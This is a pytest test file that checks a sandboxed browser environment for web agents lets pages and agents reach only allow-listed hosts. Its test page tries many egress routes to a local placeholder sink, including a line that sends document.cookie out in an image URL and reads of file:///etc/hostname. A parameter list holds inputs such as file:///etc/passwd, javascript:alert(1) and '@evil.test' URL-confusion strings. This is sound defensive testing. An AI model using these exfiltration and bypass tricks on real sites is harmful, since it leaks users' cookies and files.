"""A page reaches the allowed hosts and nothing else, whatever it tries; neither does the agent."""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from palaestra.envs import BadInput, EnvFault, TextEnv, make
from palaestra.envs.browser.env import BrowserEnv
from palaestra.envs.browser.gate import MARK, Allowed

TRIES = """<!DOCTYPE html><html><head><title>Out</title>
<link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="http://HOST"><link rel="prefetch" href="http://HOST/p">
<link rel="stylesheet" href="http://HOST/style"><script src="http://HOST/script"></script>
<style>@import url(http://HOST/import); body { background: url(http://HOST/background) }
@font-face { font-family: x; src: url(http://HOST/font) } h1 { font-family: x }</style>
<script type="speculationrules">{"prefetch": [{"urls": ["http://HOST/speculation"]}]}</script></head>
<body><h1>Out</h1><img src="http://HOST/img"><iframe src="http://HOST/frame"></iframe>
<iframe src="file:///etc/hostname"></iframe><object data="http://HOST/object"></object><video src="http://HOST/v"></video>
<a href="file:///etc/hostname">file</a> <a href="http://HOST/link" ping="http://HOST/ping">link</a>
<a href="http://REDIRECT/to">redirect</a> <a href="http://HOST/tab" target="_blank">tab</a>
<form action="http://HOST/form" method="post"><button>post</button></form><p id="said">waiting</p>
<script>
const said = {}, all = [];
const note = (name, promise) => all.push(promise.then(v => said[name] = "OPEN " + v, e => said[name] = "refused"));
note("fetch", fetch("http://HOST/fetch", {mode: "no-cors"}).then(r => r.text()).then(t => {
  if (t.includes("SINK")) return t; throw 1; }));
note("file", fetch("file:///etc/hostname").then(r => r.text()));
note("redirected", fetch("http://REDIRECT/to", {mode: "no-cors"}).then(r => r.text()).then(t => {
  if (t.includes("SINK")) return t; throw 1; }));
const opens = make => new Promise((yes, no) => { const s = make(); s.onopen = yes; s.onerror = no; });
note("socket", opens(() => new WebSocket("ws://HOST/socket")));
note("tls", opens(() => new WebSocket("wss://HOST/socket")));
note("events", opens(() => new EventSource("http://HOST/e")));
note("worker", new Promise((yes, no) => {
  const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/w', {mode: 'no-cors'}).then(r => r.text())" +
    ".then(t => postMessage(t), e => postMessage('no'))"])));
  w.onmessage = e => e.data.includes("SINK") ? yes() : no(); w.onerror = no; }));
note("service", navigator.serviceWorker ? navigator.serviceWorker.register("/sw.js") : Promise.reject());
note("transport", (async () => { if (!self.WebTransport) throw 1; await new WebTransport("https://HOST/t").ready; })());
navigator.sendBeacon("http://HOST/beacon", "x");
new Image().src = "http://HOST/image?" + document.cookie;
try {
  const peer = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]});
  peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o));
} catch (e) {}
open("http://HOST/popup");
Promise.all(all).then(() => document.getElementById("said").textContent = JSON.stringify(said));
</script></body></html>"""


class Sink:
    """A host that must not be reached: it counts connections and datagrams, and answers."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        sink = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                sink.heard.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"SINK")

            do_POST = do_GET

            def log_message(self, *args: object) -> None: ...

        class Server(http.server.ThreadingHTTPServer):
            def process_request(self, request: object, address: object) -> None:
                sink.heard.append("a connection")
                super().process_request(request, address)  # type: ignore[arg-type]

        self.server = Server(("127.0.0.1", 0), Handler)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def datagrams(self) -> int:
        count = 0
        while True:
            try:
                self.udp.recv(2048)
                count += 1
            except BlockingIOError:
                return count

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.udp.close()


class Redirecting(http.server.BaseHTTPRequestHandler):
    """An allowed host that sends everybody on to the sink."""

    to = ""

    def do_GET(self) -> None:
        self.send_response(302)
        self.send_header("Location", f"http://{self.to}/redirected")
        self.end_headers()

    def log_message(self, *args: object) -> None: ...


@pytest.fixture
def sink() -> Iterator[Sink]:
    made = Sink()
    yield made
    made.close()


@pytest.fixture
def redirecting(sink: Sink) -> Iterator[str]:
    handler = type("To", (Redirecting,), {"to": sink.host})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def pages(folder: Path, sink: Sink, redirecting: str) -> Path:
    udp = f"127.0.0.1:{sink.udp.getsockname()[1]}"
    page = TRIES.replace("HOST", sink.host).replace("REDIRECT", redirecting).replace("UDP", udp)
    (folder / "index.html").write_text(page)
    (folder / "sw.js").write_text(f"fetch('http://{sink.host}/service', {{mode: 'no-cors'}})")
    (folder / "tasks.jsonl").write_text(
        json.dumps({"id": "out", "ques": "Get out.", "web": "http://site.test/", "answer": "x"})
    )
    return folder / "tasks.jsonl"


def number_of(observation: str, name: str) -> str:
    line = next(line for line in observation.splitlines() if name in line)
    return line.strip().split("]")[0].strip("[")


def finished(env: TextEnv[Any], seen: str) -> str:
    """Wait until the page has tried everything; back from the popup that it opens."""
    for _ in range(25):
        if "waiting" not in seen and "RootWebArea 'Out'" in seen:
            break
        seen = env.step("wait" if "RootWebArea 'Out'" in seen else "back")[0]
    return seen


def test_whatever_a_page_tries_it_does_not_get_out(tmp_path: Path, sink: Sink, redirecting: str) -> None:
    file = pages(tmp_path, sink, redirecting)
    env = make("webtasks", file=str(file), site=str(tmp_path), hosts=redirecting)
    assert isinstance(env, BrowserEnv)
    first, _ = env.reset(options={"task": "out"})
    for name in ("link 'file'", "link 'link'", "link 'redirect'", "link 'tab'", "button 'post'"):
        seen = finished(env, env.reset(options={"task": "out"})[0])
        said = json.loads(env.evaluate("document.getElementById('said').textContent"))
        assert set(said.values()) == {"refused"}, said
        observation, *_, info = env.step(f"click [{number_of(seen, name)}]")
        assert "SINK" not in observation
        assert Path("/etc/hostname").read_text().strip() not in observation.split("file:")[0]
    refused = info["refused"]
    env.close()
    assert sink.host in refused
    assert sink.heard == []
    assert sink.datagrams() == 0
    assert first.startswith("Task: Get out.")


def test_a_host_that_is_allowed_is_reached(tmp_path: Path, sink: Sink, redirecting: str) -> None:
    file = pages(tmp_path, sink, redirecting)
    env = make("webtasks", file=str(file), site=str(tmp_path), hosts=f"{redirecting}, {sink.host}")
    finished(env, env.reset(options={"task": "out"})[0])
    assert "SINK" in env.step(f"goto [http://{redirecting}/]")[0]
    env.close()
    assert {"/fetch", "/img", "/redirected", "/w", "/beacon"} <= set(sink.heard)


@pytest.mark.parametrize(
    "address",
    [
        *("file:///etc/passwd", "chrome://version", "javascript:alert(1)", "view-source:http://library.test/"),
        *("data:text/html,x", "http://example.org/", "http://library.test:8080/", "http://127.0.0.1/", "http://[::1]/"),
        *("http://library.test@evil.test/", "http://library.test\\@evil.test/", "HTTP://EVIL.test"),
        *("//", "http://", "http://:80/", "\x00"),
    ],
)
def test_an_agent_cannot_go_elsewhere(address: str, library: TextEnv[Any]) -> None:
    env = library
    before, _ = env.reset(options={"task": "Library--0"})
    observation, _, over, _, info = env.step(f"goto [{address}]")
    assert not over
    assert info["url"] in ("http://library.test/",)
    assert before.split("URL:")[1] in observation


@pytest.fixture(scope="module")
def library() -> Iterator[TextEnv[Any]]:
    env = make("webtasks")
    yield env
    env.close()


class Answering(http.server.BaseHTTPRequestHandler):
    """A host whose server is broken, or whose page forges the gate's mark."""

    def do_GET(self) -> None:
        self.send_response({"/broken": 503, "/none": 404}.get(self.path, 200))
        self.send_header(MARK, "0" * 32)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<h1>Answered</h1>")

    def log_message(self, *args: object) -> None: ...


@pytest.fixture
def answering() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answering)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def begun(folder: Path, web: str) -> str:
    file = folder / f"{len(list(folder.iterdir()))}.jsonl"  # files that were read are remembered
    file.write_text(json.dumps({"id": "a", "ques": "?", "web": web, "answer": "x"}))
    env = make("webtasks", file=str(file))
    try:
        return env.reset(options={"task": "a"})[0]
    finally:
        env.close()


def test_a_first_page_that_its_host_did_not_answer_is_a_fault(tmp_path: Path, answering: str, redirecting: str) -> None:
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))  # bound and not listening: refuses connections
        closed = f"http://127.0.0.1:{silent.getsockname()[1]}/"
        for web, why in (
            (closed, "its host cannot be reached"),
            ("http://nowhere.invalid/", "its host cannot be reached"),
            (f"http://{redirecting}/", "its host may not be visited here"),
            (f"{answering}/broken", "HTTP status 503"),
            (f"{answering}/none", "HTTP status 404"),
        ):
            with pytest.raises(EnvFault, match=f"did not load: {why}"):
                begun(tmp_path, web)
    assert "Answered" in begun(tmp_path, f"{answering}/")  # a mark that a page makes up counts for nothing


@pytest.mark.parametrize("entry", ["", "http://a.b", "a b", "a:b", "*", "*.*", "a/b"])
def test_what_is_no_host_cannot_be_allowed(entry: str) -> None:
    with pytest.raises(BadInput, match="is no host to allow"):
        Allowed((entry,))


@pytest.mark.parametrize(
    ("host", "port", "may"),
    [
        *(("a.test", 80, True), ("A.TEST.", 443, True), ("a.test", 8080, False), ("x.a.test", 80, False)),
        *(("b.test", 81, True), ("b.test", 80, False)),
        *(("c.test", 80, True), ("x.y.c.test", 443, True), ("xc.test", 80, False)),
    ],
)
def test_an_allow_list_means_what_it_says(host: str, port: int, may: bool) -> None:
    assert Allowed(("a.test", "b.test:81", "*.c.test")).allows(host, port) is may
